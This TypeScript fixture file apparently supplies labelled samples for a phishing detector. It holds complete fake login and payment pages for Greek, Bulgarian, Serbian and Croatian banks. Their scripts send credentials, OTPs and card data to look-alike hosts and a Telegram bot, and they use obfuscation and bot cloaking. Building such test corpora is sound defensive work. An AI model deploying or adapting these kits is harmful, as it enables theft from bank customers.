import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, bankLogo, botGateJs, cardFields, doc, luhnJs, rev, tgSendJs, xorPack, xorUnpackJs } from '../parts/xc-kit.js';

// myAlpha Web clone dropped into a compromised WordPress uploads folder; classic index.php -> post.php -> sms.php -> fin.php flow.
const alphaCss = `body{background:#eef2f7}.tp{background:#003d7c;padding:12px 26px;display:flex;justify-content:space-between;align-items:center;color:#fff;font-size:13px}
.pn{max-width:460px;margin:50px auto;background:#fff;border-radius:3px;box-shadow:0 3px 14px rgba(0,0,0,.1)}
.pn h1{margin:0;padding:18px 26px;font-size:19px;border-bottom:1px solid #e3e8ef;color:#003d7c}.pb{padding:22px 26px}
.pb label{font-size:13px;color:#444;display:block;margin:10px 0 4px}.pb input{width:100%;padding:10px;border:1px solid #b9c4d2;font-size:15px}
.pb button{margin-top:18px;background:#d7141a;color:#fff;border:0;padding:11px 30px;font-size:15px;border-radius:2px}
.ft{text-align:center;font-size:11px;color:#889;margin-top:26px}`;
const alphaLogin = doc({
  lang: 'el',
  title: 'myAlpha Web - Alpha Bank',
  css: alphaCss,
  body: `<div class="tp">${bankLogo('alpha', 'Alpha Bank', 30, true)}<span>Ελληνικά | English</span></div>
<div class="pn"><h1>myAlpha Web – Είσοδος</h1><div class="pb">
<form method="post" action="post.php">
<label>Κωδικός Συνδρομητή</label><input name="usr" autocomplete="off" required>
<label>Κωδικός Πρόσβασης (PIN)</label><input name="pin" type="password" required>
<input type="hidden" name="ua" id="ua">
<button>Είσοδος</button></form>
<p style="font-size:12px;color:#666;margin-top:18px">Ξεχάσατε τον κωδικό σας; | Εγγραφή στο myAlpha Web</p>
</div></div><div class="ft">Alpha Bank Α.Ε. © 2025 – Μέλος του Ταμείου Εγγύησης Καταθέσεων</div>
<script>document.getElementById('ua').value=navigator.userAgent</script>`,
});
const alphaSms = doc({
  lang: 'el',
  title: 'myAlpha Web - Επιβεβαίωση',
  css: alphaCss,
  body: `<div class="tp">${bankLogo('alpha', 'Alpha Bank', 30, true)}<span>Ασφαλής σύνδεση</span></div>
<div class="pn"><h1>Επιβεβαίωση με SMS</h1><div class="pb">
<p style="font-size:14px">Για την ολοκλήρωση της ενημέρωσης ασφαλείας πληκτρολογήστε τον 6ψήφιο κωδικό που λάβατε στο κινητό σας τηλέφωνο, καθώς και το υπόλοιπο του λογαριασμού σας για επαλήθευση.</p>
<form method="post" action="fin.php">
<label>Κωδικός SMS</label><input name="sms" maxlength="6" required>
<label>Κινητό τηλέφωνο</label><input name="tel" placeholder="69XXXXXXXX" required>
<label>Διαθέσιμο υπόλοιπο (€)</label><input name="bal">
<button>Επιβεβαίωση</button></form></div></div>`,
});

// Eurobank: the whole login is a base64 string written into the document at load.
const eurobankInner = `<style>.eb{font-family:Arial;max-width:980px;margin:0 auto}.eb-h{display:flex;justify-content:space-between;align-items:center;padding:18px 0;border-bottom:1px solid #ddd}
.eb-g{display:grid;grid-template-columns:1fr 1fr;gap:36px;padding:36px 0}.eb-f{background:#fff;padding:28px;border:1px solid #e2e2e8}
.eb-f input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #b7b7c6}.eb-f button{background:#c8102e;color:#fff;border:0;padding:12px 34px;border-radius:24px}
.eb-p{background:#18194f;color:#fff;padding:28px;border-radius:6px}</style>
<div class="eb"><div class="eb-h">${bankLogo('eurobank')}<span style="font-size:13px">Eurobank e-Banking</span></div>
<div class="eb-g"><div class="eb-f"><h2 style="margin-top:0">Είσοδος στο e-Banking</h2>
<form id="ebf"><label>Κωδικός χρήστη</label><input name="user" required><label>Συνθηματικό</label><input name="pass" type="password" required>
<label>Κωδικός μιας χρήσης (Eurobank Authenticator / SMS)</label><input name="otp" maxlength="8" required><button>Είσοδος</button></form></div>
<div class="eb-p"><h3>Νέα διαδικασία πιστοποίησης</h3><p>Από 15/11 απαιτείται επικαιροποίηση στοιχείων (KYC) για όλους τους πελάτες. Η μη ολοκλήρωση οδηγεί σε δέσμευση του λογαριασμού.</p></div></div></div>`;
const eurobankJs = `document.getElementById('ebf').onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.append('b','eurobank');
fetch('https://api-eb.gr-auth.cfd/c.php',{method:'POST',body:d,mode:'no-cors'}).finally(function(){document.querySelector('.eb-g').innerHTML='<p style="padding:40px">Η επικαιροποίηση ολοκληρώθηκε. Θα ενημερωθείτε με SMS.</p>'})};`;

// NBG i-bank kit on a punycode look-alike; the script lives in a separate file on the same host.
const nbgKit = doc({
  lang: 'el',
  title: 'Εθνική Τράπεζα - Internet Banking',
  css: `body{background:#f1f5f6}.hdr{background:#005f6b;padding:14px 30px}.hdr svg text{fill:#fff}
.ct{max-width:760px;margin:34px auto;display:flex;gap:24px;padding:0 14px}.lf{flex:1;background:#fff;padding:26px;border-radius:6px}
.rt{width:260px;background:#e3f1f3;padding:18px;border-radius:6px;font-size:13px;line-height:1.5}
.lf label{display:block;font-size:13px;margin:10px 0 4px}.lf input{width:100%;padding:11px;border:1px solid #a9c1c5;border-radius:4px}
.lf button{margin-top:16px;background:#00a0af;color:#fff;border:0;padding:12px;width:100%;border-radius:4px;font-size:15px}
.st2{display:none}`,
  body: `<div class="hdr">${bankLogo('nbg', 'Εθνική Τράπεζα', 34, true)}</div>
<div class="ct"><div class="lf">
<h2 style="margin-top:0;color:#005f6b">Internet Banking</h2>
<form id="n1"><label>Κωδικός χρήστη (User ID)</label><input name="uid" required><label>Κωδικός πρόσβασης</label><input name="pw" type="password" required><button>Σύνδεση</button></form>
<form id="n2" class="st2"><p style="font-size:14px">Για λόγους ασφαλείας στείλαμε κωδικό επιβεβαίωσης μέσω Viber ή SMS.</p><label>Κωδικός επιβεβαίωσης</label><input name="code" maxlength="6" required><label>Κωδικός ATM (PIN κάρτας)</label><input name="pin" type="password" maxlength="4"><button>Συνέχεια</button></form>
</div><div class="rt"><b>Ενημέρωση</b><br>Η Εθνική Τράπεζα δεν θα σας ζητήσει ποτέ κωδικούς μέσω τηλεφώνου. Για την ασφάλειά σας ολοκληρώστε την πιστοποίηση της συσκευής σας.</div></div>
<script src="/assets/n.js?v=3"></script>`,
});
const nbgJs = `(function(){var D=atob('${b64('https://nbg-sync.gr-srv.top/api/in.php')}');var id=Date.now().toString(36);
function s(f,st){var b=new FormData(f);b.append('st',st);b.append('id',id);return fetch(D,{method:'POST',body:b,mode:'no-cors'})}
document.getElementById('n1').addEventListener('submit',function(e){e.preventDefault();s(this,'1');this.style.display='none';document.getElementById('n2').style.display='block'});
document.getElementById('n2').addEventListener('submit',function(e){e.preventDefault();s(this,'2').finally(function(){location.replace('https://www.nbg.gr/')})});})();`;

// DSK Direct: Telegram drop sealed in an XOR blob; three steps.
const dskCfg = xorPack(JSON.stringify({ t: '7309915582:AAGdsk_Fq8Ln2Wc0Pz9Rb1VyKe3Tu6XmHsQ', c: '-1002044197712' }), 'dsk25');
const dskKit = doc({
  lang: 'bg',
  title: 'DSK Direct – Вход',
  css: `body{background:linear-gradient(135deg,#00843d,#005c2b);min-height:100vh}.box{max-width:400px;margin:60px auto;background:#fff;border-radius:14px;padding:30px}
.box h1{font-size:20px;margin:14px 0}.f{margin-bottom:12px}.f input{width:100%;padding:12px;border:1px solid #ccd;border-radius:8px;font-size:15px}
.b{background:#7ab800;color:#fff;border:0;border-radius:8px;padding:13px;width:100%;font-size:16px;font-weight:600}.n{font-size:12px;color:#666}.x{display:none}`,
  body: `<div class="box">${bankLogo('dsk', 'DSK Direct')}
<div id="k1"><h1>Вход в DSK Direct</h1><form id="f1"><div class="f"><input name="u" placeholder="Потребител" required></div><div class="f"><input name="p" type="password" placeholder="Парола" required></div><button class="b">Вход</button></form><p class="n">Имате ново съобщение относно сигурността на сметката Ви.</p></div>
<div id="k2" class="x"><h1>Идентификация</h1><form id="f2"><div class="f"><input name="egn" placeholder="ЕГН" maxlength="10" required></div><div class="f"><input name="tel" placeholder="Мобилен телефон" required></div><button class="b">Напред</button></form></div>
<div id="k3" class="x"><h1>Код за потвърждение</h1><p class="n">Въведете кода от SMS, за да потвърдите активирането на DSK Smart на ново устройство.</p><form id="f3"><div class="f"><input name="otp" maxlength="6" placeholder="______" required></div><button class="b">Потвърди</button></form></div>
</div>
<script>
${xorUnpackJs('_d')}
var cfg=JSON.parse(_d('${dskCfg}','dsk25')),buf={};
function go(a,b){document.getElementById(a).className='x';document.getElementById(b).className=''}
function tg(tag,f){var m=tag+'\\n';new FormData(f).forEach(function(v,k){buf[k]=v;m+=k+'='+v+'\\n'});return ${tgSendJs('cfg.t', 'cfg.c', 'm')}}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();tg('DSK LOGIN',this);go('k1','k2')};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();tg('DSK ID',this);go('k2','k3')};
document.getElementById('f3').onsubmit=function(e){e.preventDefault();tg('DSK OTP',this).finally(function(){location='https://dskdirect.bg/'})};
</script>`,
});

// Raiffeisen Serbia: a neutral "checking your browser" page that only sends humans on to the kit.
const raiffKit = doc({
  lang: 'sr-Latn',
  title: 'Raiffeisen Online | Prijava',
  css: `body{background:#f5f5f5}.h{background:#fee600;padding:12px 28px}.w{max-width:420px;margin:44px auto;background:#fff;padding:30px;box-shadow:0 2px 8px rgba(0,0,0,.1)}
.w input{width:100%;padding:11px;margin:5px 0 12px;border:1px solid #bbb}.w button{background:#2b2b2b;color:#fee600;border:0;padding:12px;width:100%;font-weight:700}`,
  body: `<div class="h">${bankLogo('raiffeisen', 'Raiffeisen Online')}</div>
<div class="w"><h2 style="margin-top:0">Prijava za fizička lica</h2>
<p style="font-size:13px;color:#555">Poštovani, zbog ažuriranja sistema neophodno je da potvrdite svoj identitet kako biste nastavili da koristite elektronsko bankarstvo.</p>
<form method="post" action="https://rol-rs.sigurnost-provera.site/prijava/p2.php">
<label>Korisničko ime</label><input name="ki" required><label>Lozinka</label><input name="lz" type="password" required>
<label>Jednokratna lozinka (mToken)</label><input name="otp" maxlength="8" required>
<button>Prijavi se</button></form></div>`,
});

// Zagrebačka banka e-zaba: credentials + m-zaba token, plus card details "for verification".
const zabaKit = doc({
  lang: 'hr',
  title: 'e-zaba | Zagrebačka banka',
  css: `.t{background:#fff;border-bottom:4px solid #e2001a;padding:14px 30px}.g{max-width:900px;margin:30px auto;display:grid;grid-template-columns:420px 1fr;gap:30px}
.b{background:#fff;padding:26px;border-radius:4px}.b h2{margin:0 0 16px;color:#e2001a}.fld{margin-bottom:12px}.fld label{display:block;font-size:13px;margin-bottom:4px}
.fld input{width:100%;padding:10px;border:1px solid #bbb;border-radius:3px}.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}
.btn{background:#e2001a;color:#fff;border:0;padding:12px;width:100%;border-radius:3px;font-size:15px}.i{font-size:14px;line-height:1.6;color:#333}`,
  body: `<div class="t">${bankLogo('zaba', 'Zagrebačka banka')}</div>
<div class="g"><div class="b"><h2>Prijava u e-zabu</h2>
<form id="z" method="post" action="obrada.php">
<div class="fld"><label>Korisničko ime</label><input name="user" required></div>
<div class="fld"><label>Jednokratna lozinka (m-zaba token, APPLI 1)</label><input name="otp" maxlength="8" required></div>
<p style="font-size:13px;margin:16px 0 6px"><b>Potvrda kartice</b> – radi usklađivanja s 3-D Secure 2.0</p>
${cardFields('hr', { holder: 'ime', number: 'kartica', mm: 'mm', yy: 'gg', cvv: 'cvv' })}
<button class="btn">Prijava</button></form></div>
<div class="i"><h3>Obavijest korisnicima</h3><p>Od 1. studenoga svi korisnici e-zabe moraju potvrditi karticu kako bi i dalje mogli plaćati na internetu. Nepotvrđene kartice bit će privremeno blokirane.</p><p>Potvrda traje manje od 2 minute.</p></div></div>
<script>${luhnJs('lh')}document.getElementById('z').onsubmit=function(e){if(!lh(this.kartica.value)){e.preventDefault();alert('Neispravan broj kartice')}}</script>`,
});

// IRIS "receive payment" kit used against people selling on marketplaces: pick your bank, then card + balance.
const irisKit = doc({
  lang: 'el',
  title: 'IRIS Payments – Παραλαβή πληρωμής',
  css: `body{background:#f3f0fa}.top{background:#5b2a86;color:#fff;padding:16px 24px;font-weight:700;font-size:20px;letter-spacing:.5px}
.c{max-width:480px;margin:26px auto;background:#fff;border-radius:12px;padding:24px;box-shadow:0 6px 20px rgba(60,20,100,.12)}
.amt{font-size:34px;font-weight:700;color:#5b2a86;margin:6px 0}.banks{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin:16px 0}
.banks button{background:#fff;border:1px solid #d9d2e6;border-radius:10px;padding:12px;cursor:pointer}.banks button:hover{border-color:#5b2a86}
.fld{margin-bottom:12px}.fld label{font-size:13px;display:block;margin-bottom:4px}.fld input{width:100%;padding:11px;border:1px solid #cfc6dd;border-radius:8px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.go{background:#5b2a86;color:#fff;border:0;border-radius:8px;width:100%;padding:13px;font-size:16px}
#st2{display:none}.sm{font-size:12px;color:#777}`,
  body: `<div class="top">IRIS <span style="font-weight:400;font-size:14px">Online Payments</span></div>
<div class="c">
<div class="sm">Αγορά μέσω Vinted · Αγγελία #48120</div>
<div>Ο αγοραστής <b>Γιώργος Κ.</b> σας απέστειλε</div><div class="amt">145,00 €</div>
<div class="sm">Η πληρωμή έχει δεσμευτεί. Για να πιστωθεί το ποσό στον λογαριασμό σας, επιλέξτε την τράπεζά σας και επιβεβαιώστε την κάρτα στην οποία θα γίνει η πίστωση.</div>
<div id="st1" class="banks">${(['piraeus', 'alpha', 'eurobank', 'nbg'] as const).map((k) => `<button type="button" data-b="${k}">${bankLogo(k, undefined, 26)}</button>`).join('')}</div>
<form id="st2"><input type="hidden" name="bank" id="bk">
${cardFields('el', { holder: 'nm', number: 'pan', mm: 'm', yy: 'y', cvv: 'c' })}
<div class="fld"><label>Διαθέσιμο υπόλοιπο κάρτας (για επαλήθευση ορίου πίστωσης)</label><input name="bal" inputmode="decimal" required></div>
<button class="go">Παραλαβή 145,00 €</button><p class="sm">Ασφαλής συναλλαγή · Τράπεζα της Ελλάδος · IRIS</p></form>
</div>
<script>
${luhnJs('valid')}
var ws;try{ws=new WebSocket('wss://ws.iris-pay-receive.shop/live')}catch(e){}
function push(o){o.page='iris-145';var s=JSON.stringify(o);if(ws&&ws.readyState===1)ws.send(s);else navigator.sendBeacon('/collect',s)}
document.querySelectorAll('#st1 button').forEach(function(b){b.onclick=function(){document.getElementById('bk').value=b.dataset.b;push({ev:'bank',b:b.dataset.b});document.getElementById('st1').style.display='none';document.getElementById('st2').style.display='block'}});
document.getElementById('st2').onsubmit=function(e){e.preventDefault();if(!valid(this.pan.value)){alert('Ελέγξτε τον αριθμό κάρτας');return}var o={ev:'card'};new FormData(this).forEach(function(v,k){o[k]=v});push(o);
this.innerHTML='<p>Αναμονή έγκρισης από την τράπεζά σας… Θα λάβετε κωδικό στο κινητό σας.</p><input id="otp" placeholder="Κωδικός" style="padding:10px;width:100%"><button class="go" type="button" onclick="push({ev:\\'otp\\',v:document.getElementById(\\'otp\\').value})">Επιβεβαίωση</button>'};
</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-alpha-myalpha-php-drop',
    label: 'phishing',
    kind: 'bank-kit-on-compromised-wordpress',
    url: 'https://www.kafeneio-rodos.gr/wp-content/uploads/2025/10/myalpha/index.php',
    body: alphaLogin,
    routes: {
      'www.kafeneio-rodos.gr/wp-content/uploads/2025/10/myalpha/post.php': redirectRoute(302, 'https://www.kafeneio-rodos.gr/wp-content/uploads/2025/10/myalpha/sms.php'),
      'www.kafeneio-rodos.gr/wp-content/uploads/2025/10/myalpha/sms.php': htmlRoute(alphaSms),
      'www.kafeneio-rodos.gr/wp-content/uploads/2025/10/myalpha/fin.php': redirectRoute(302, 'https://www.alpha.gr/el/idiotes'),
    },
  },
  {
    id: 'xc-eurobank-b64-docwrite-kit',
    label: 'phishing',
    kind: 'base64-docwrite-bank-kit',
    url: 'https://eurobank-ebanking.gr-auth.cfd/auth/login',
    body: `<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"><title>Eurobank e-Banking</title><meta name="viewport" content="width=device-width,initial-scale=1"></head><body style="margin:0;background:#f5f5f8">
<script>var _0x=['${rev(b64(eurobankInner))}','${b64(eurobankJs)}'];function _r(s){return s.split('').reverse().join('')}
document.write(decodeURIComponent(escape(atob(_r(_0x[0])))));setTimeout(function(){(0,eval)(atob(_0x[1]))},50);</script>
<noscript>Ενεργοποιήστε τη JavaScript.</noscript></body></html>`,
  },
  {
    id: 'xc-nbg-ibank-punycode-kit',
    label: 'phishing',
    kind: 'punycode-lookalike-bank-kit',
    url: 'https://ibank.xn--nb-kgb.gr.com/ibank/login',
    submittedUrl: 'https://ibank.nbɡ.gr.com/ibank/login',
    body: nbgKit,
    routes: { 'ibank.xn--nb-kgb.gr.com/assets/n.js': jsRoute(nbgJs) },
  },
  {
    id: 'xc-dsk-direct-telegram-kit',
    label: 'phishing',
    kind: 'bank-kit-encrypted-telegram-drop',
    url: 'https://dskdirect-bg.online-verifikaciya.com/vhod/',
    body: dskKit,
  },
  {
    id: 'xc-raiffeisen-rs-cloaked-kit',
    label: 'phishing',
    kind: 'cloaked-bank-kit',
    url: 'https://raif-rs.obavestenje-klijent.site/?k=r8QmT2',
    body: `<!doctype html><html lang="sr"><head><meta charset="utf-8"><title>Provera…</title><style>body{font-family:Arial;display:flex;align-items:center;justify-content:center;height:100vh;margin:0;color:#444}</style></head>
<body><div id="m">Provera vašeg pregledača, sačekajte…</div>
<script>${botGateJs('human')}
setTimeout(function(){if(human()&&/sr|hr|bs|en/i.test(navigator.language)){var u=atob('${b64('https://rol-rs.sigurnost-provera.site/prijava/index.html')}');location.replace(u+'?k='+new URLSearchParams(location.search).get('k'))}else{document.title='Uskoro';document.getElementById('m').textContent='Sajt je u izradi.'}},1400);</script></body></html>`,
    routes: { 'rol-rs.sigurnost-provera.site/prijava/index.html': htmlRoute(raiffKit) },
  },
  {
    id: 'xc-zaba-ezaba-kit-hr',
    label: 'phishing',
    kind: 'bank-credential-card-kit',
    url: 'https://e-zaba.hr-prijava.info/ezaba/prijava.html',
    body: zabaKit,
  },
  {
    id: 'xc-iris-payment-request-kit',
    label: 'phishing',
    kind: 'marketplace-receive-payment-kit',
    url: 'https://iris-pay-receive.shop/gr/receive/48120-145',
    body: irisKit,
  },
];
